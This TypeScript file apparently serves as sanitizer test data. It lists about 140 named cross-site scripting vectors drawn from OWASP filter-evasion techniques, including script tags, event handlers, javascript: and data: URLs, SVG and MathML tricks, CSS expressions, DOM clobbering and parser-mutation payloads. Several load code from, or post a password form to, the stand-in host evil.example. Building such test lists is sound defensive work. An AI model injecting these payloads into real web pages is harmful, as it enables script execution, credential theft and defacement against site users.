/** Rich text that tries to run code, with the techniques of OWASP's filter evasion list; `name` says which. */
export interface XssVector {
  readonly name: string;
  readonly html: string;
}

const NUL = '\u0000';
const RUN = 'alert(1)';

const SCRIPTS = {
  'script element': `<script>${RUN}</script>`,
  'script in mixed case': `<ScRiPt>${RUN}</sCrIpT>`,
  'script from another site': '<script src="https://evil.example/x.js"></script>',
  'script with a protocol-relative address': '<script src=//evil.example/x.js></script>',
  'script without an end tag': `<script>${RUN}`,
  'script with a slash in its name': `<script/x src="https://evil.example/x.js"></script>`,
  'script with a space before the end of its tags': `<script >${RUN}</script >`,
  'script inside a script': `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  'doubled angle brackets': `<<script>${RUN};//<</script>`,
  'script after a quote that seems to end an attribute': `<img alt="a>b"><script>${RUN}</script>">`,
  'script with a null byte in its name': `<scr${NUL}ipt>${RUN}</scr${NUL}ipt>`,
  'script module': `<script type="module">import "https://evil.example/x.js"</script>`,
  'script in svg': `<svg><script>${RUN}</script></svg>`,
  'script in svg by reference': '<svg><script xlink:href="data:text/javascript,alert(1)"></script></svg>',
  'script in an uppercase namespace': `<SVG:script>${RUN}</SVG:script>`,
};

const HANDLERS = {
  'image that fails': `<img src=x onerror=${RUN}>`,
  'image that fails, without spaces': `<img/src="x"/onerror="${RUN}">`,
  'image that fails, with a line break': `<img src=x\nonerror\n=\n"${RUN}">`,
  'image that fails, with a form feed': `<img src=x\u000conerror=${RUN}>`,
  'image that fails, with backquotes': `<img src=\`x\` onerror=\`${RUN}\`>`,
  'image that fails, without an end': `<img src=x onerror=${RUN}//`,
  'image element by another name': `<image src=x onerror=${RUN}>`,
  'handler in entities': '<img src=x onerror="&#97;&#108;&#101;&#114;&#116;&#40;1&#41;">',
  'handler with a null byte in its name': `<img src=x on${NUL}error=${RUN}>`,
  'handler behind a closed quote': `<img src="x" alt="" onerror="${RUN}" alt="">`,
  'handler on an allowed element': `<p onclick="${RUN}" onmouseover="${RUN}">text</p>`,
  'handler triggered by focus': `<a href="#" tabindex=1 autofocus onfocus=${RUN}>text</a>`,
  'handler of an unknown element': `<x onpointerenter=${RUN}>text</x>`,
  'handler of a body': `<body onload=${RUN}><p>text</p></body>`,
  'handler of an open details element': `<details open ontoggle=${RUN}><summary>text</summary></details>`,
  'handler of audio and video': `<video><source onerror=${RUN}></video><audio src=x onerror=${RUN}></audio>`,
  'handler of a marquee': `<marquee onstart=${RUN}>text</marquee>`,
  'handler of an animation': `<style>@keyframes x{}</style><b style="animation-name:x" onanimationstart=${RUN}>text</b>`,
  'video with an image from another site':
    '<video src="https://evil.example/x" poster="https://evil.example/x.png"><source srcset="https://evil.example/x"></video>',
  'handler of a picked element': `<table><tr><td onbeforecopy=${RUN} contenteditable>text</td></tr></table>`,
};

const ADDRESSES = {
  'javascript address': `<a href="javascript:${RUN}">text</a>`,
  'javascript address in mixed case': `<a href="JaVaScRiPt:${RUN}">text</a>`,
  'javascript address in decimal entities':
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">text</a>',
  'javascript address in padded entities without semicolons':
    '<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(1)">text</a>',
  'javascript address in hexadecimal entities': '<a href="&#x6A;&#x61;&#x76;&#x61;script&#x3A;alert(1)">text</a>',
  'javascript address with a named colon and tab': `<a href="java&Tab;script&colon;${RUN}">text</a>`,
  'javascript address with a tab': `<a href="java\tscript:${RUN}">text</a>`,
  'javascript address with line breaks': `<a href="j\na\nv\na\ns\nc\nr\ni\np\nt:${RUN}">text</a>`,
  'javascript address with a carriage return in an entity': `<a href="java&#x0D;script:${RUN}">text</a>`,
  'javascript address with a null byte': `<a href="java${NUL}script:${RUN}">text</a>`,
  'javascript address behind control characters': `<a href=" &#14;\u0001 javascript:${RUN}">text</a>`,
  'javascript address with a comment that looks like a web address': `<a href="javascript://evil.example/%0a${RUN}">text</a>`,
  'javascript address of an image': `<img src="javascript:${RUN}">`,
  'javascript address without quotes': `<img src=javascript:${RUN}>`,
  'javascript address in a blockquote': `<blockquote cite="javascript:${RUN}">text</blockquote>`,
  'javascript address behind view-source': `<a href="view-source:javascript:${RUN}">text</a>`,
  'javascript address behind feed': `<a href="feed:javascript:${RUN}">text</a>`,
  'vbscript address': '<a href="vbscript:msgbox(1)">text</a>',
  'data address with a page': `<a href="data:text/html,<script>${RUN}</script>">text</a>`,
  'data address with a page in base64': '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">text</a>',
  'data address with an image that has a script':
    '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+PC9zdmc+">',
  'address with another scheme': '<a href="ftp://evil.example">text</a>',
  'address of a file': '<a href="file:///etc/passwd">text</a>',
  'address of a blob': '<a href="blob:https://evil.example/1">text</a>',
  'protocol-relative address': '<a href="//evil.example/">text</a><img src="//evil.example/x.png">',
  'protocol-relative address with backslashes':
    '<a href="\\\\evil.example/">text</a><a href="/\\evil.example/">text</a>',
  'protocol-relative address with a tab': '<a href="/\t/evil.example/">text</a><img src="/\n/evil.example/x.png">',
  'several images': '<img src="x.png" srcset="javascript:alert(1) 1x, //evil.example/x.png 2x" sizes="1px">',
  'picture with sources': `<picture><source srcset="data:image/svg+xml,<svg onload=${RUN}>"><img src="x.png"></picture>`,
  'address that a click pings': '<a href="/x" ping="https://evil.example/" download target="_top">text</a>',
};

const ELEMENTS = {
  'svg that loads': `<svg onload=${RUN}></svg>`,
  'svg with an animated link':
    '<svg><a><animate attributeName="href" values="javascript:alert(1)"/><text>text</text></a></svg>',
  'svg with a set handler': `<svg><set attributeName="onmouseover" to="${RUN}"/></svg>`,
  'svg with a foreign object': `<svg><foreignObject><iframe src="javascript:${RUN}"></iframe></foreignObject></svg>`,
  'svg that uses another': '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x"/></svg>',
  'math with a link': `<math href="javascript:${RUN}">text</math>`,
  'math with an action': `<math><maction actiontype="statusline#https://evil.example" xlink:href="javascript:${RUN}">text</maction></math>`,
  'frame with a page': '<iframe src="https://evil.example/"></iframe>',
  'frame with its own document': `<iframe srcdoc="&lt;script&gt;${RUN}&lt;/script&gt;"></iframe>`,
  frameset: `<frameset><frame src="javascript:${RUN}"></frameset>`,
  'object with a page': `<object data="javascript:${RUN}"><param name="url" value="javascript:${RUN}"></object>`,
  'embedded page': '<embed src="https://evil.example/x.svg" allowscriptaccess=always>',
  applet: '<applet code="X.class" archive="https://evil.example/x.jar"></applet>',
  'base for all addresses': '<base href="https://evil.example/">',
  'refresh to a script': `<meta http-equiv="refresh" content="0;url=javascript:${RUN}">`,
  'refresh to a data address': '<meta http-equiv=refresh content="0;url=data:text/html,x">',
  'cookie set by an element': '<meta http-equiv="Set-Cookie" content="a=b">',
  'style sheet from another site': '<link rel="stylesheet" href="https://evil.example/x.css">',
  'imported page': '<link rel="import" href="https://evil.example/">',
  'form to another site': '<form action="https://evil.example/"><input name="password"><button>text</button></form>',
  'form to a script': `<form action="javascript:${RUN}"><input type=submit></form>`,
  'button with its own action': `<form id=f></form><button form=f formaction="javascript:${RUN}">text</button>`,
  'image that submits': `<isindex type=image src=1 onerror=${RUN}><input type=image src=x onerror=${RUN}>`,
  'element of the page itself': `<html onclick=${RUN}><head><title>x</title></head></html>`,
  portal: '<portal src="https://evil.example/"></portal>',
  'dialog over the page': '<dialog open>text</dialog>',
};

const STYLES = {
  'style element': '<style>@import "https://evil.example/x.css";</style>',
  'style with an expression': `<p style="width:expression(${RUN})">text</p>`,
  'style with a commented expression': `<p style="xss:expr/*x*/ession(${RUN})">text</p>`,
  'style with a script for an image': `<p style="background-image:url(javascript:${RUN})">text</p>`,
  'style with a binding': '<p style="-moz-binding:url(https://evil.example/x.xml#x)">text</p>',
  'style that covers the page': '<p style="position:fixed;inset:0;z-index:9999">text</p>',
  'style with escapes': `<p style="width:\\65xpression(${RUN})">text</p>`,
  'background of a table': `<table background="javascript:${RUN}"><tr><td background="javascript:${RUN}">text</td></tr></table>`,
  'names that the page uses': '<p id="root" class="ant-modal" name="cookie" slot="x">text</p>',
  'marks that scripts read': '<p data-table data-action="delete" role="alert" aria-label="x" is="x-y">text</p>',
  'names that hide properties':
    '<a id="attributes"></a><img name="getElementById"><a id=config name=apiBase href="/x">text</a>',
};

const MUTATIONS = {
  'noscript with a script': `<noscript><p title="</noscript><img src=x onerror=${RUN}>"></noscript>`,
  'template that hides an element': `<template><img src=x onerror=${RUN}></template>`,
  'template with a shadow': `<p><template shadowrootmode="open"><img src=x onerror=${RUN}></template></p>`,
  'style in math that ends early': `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${RUN}&gt;">`,
  'style in svg that is markup': `<svg></p><style><a id="</style><img src=1 onerror=${RUN}>"></style></svg>`,
  'form inside a form in math': `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${RUN}></style></mglyph></form></mtext></math></form>`,
  'text area that ends in an attribute': `<textarea><p title="</textarea><img src=x onerror=${RUN}>"></textarea>`,
  'title that ends in an attribute': `<title><p title="</title><img src=x onerror=${RUN}>"></title>`,
  'listing that is text in one parser only': `<xmp><p title="</xmp><img src=x onerror=${RUN}>"></xmp>`,
  'plain text to the end': `<plaintext><img src=x onerror=${RUN}>`,
  'noframes with markup': `<noframes><p title="</noframes><img src=x onerror=${RUN}>"></noframes>`,
  'select with markup': `<select><option><img src=x onerror=${RUN}></option><style></select><img src=x onerror=${RUN}></style></select>`,
  'comment that ends early': `<!--><img src=x onerror=${RUN}>-->`,
  'comment that ends with a mark': `<!-- --!><img src=x onerror=${RUN}> -->`,
  'comment around a quote': `<!--<img src="--><img src=x onerror=${RUN}//">`,
  'comment for one browser': `<!--[if gte IE 4]><script>${RUN}</script><![endif]-->`,
  'section of character data': `<![CDATA[<img src=x onerror=${RUN}>]]>`,
  'processing instruction': `<?xml version="1.0"?><?import namespace="t" implementation="#x"><p>text</p>`,
  'declaration with an entity': `<!DOCTYPE x [<!ENTITY y "<img src=x onerror=${RUN}>">]><p>&y;</p>`,
  'end tag with attributes': `</p onclick=${RUN}><p>text</p>`,
  'escaped twice': `&amp;lt;img src=x onerror=${RUN}&amp;gt;&lt;script&gt;${RUN}&lt;/script&gt;`,
  'markup in a kept attribute': `<img src="x.png" alt="<script>${RUN}</script>" title='"><img src=x onerror=${RUN}>'>`,
  'markup in a kept title': `<a title="<img src=x onerror=${RUN}><table><td>5</td></table>" href="/x" onclick=${RUN}>text</a>`,
  'attribute twice': `<a href="/x" href="javascript:${RUN}">text</a><a href="javascript:${RUN}" href="/x">text</a>`,
  'seven bits for a letter': `+ADw-script+AD4-${RUN}+ADw-/script+AD4-`,
  'full-width brackets': `＜script＞${RUN}＜/script＞`,
  'five hundred elements deep': `${'<div>'.repeat(500)}<img src=x onerror=${RUN}>${'</div>'.repeat(500)}`,
};

/** What a person who may write articles could try. */
export const XSS_VECTORS: readonly XssVector[] = [SCRIPTS, HANDLERS, ADDRESSES, ELEMENTS, STYLES, MUTATIONS]
  .flatMap((group) => Object.entries(group))
  .map(([name, html]) => ({ name, html }));
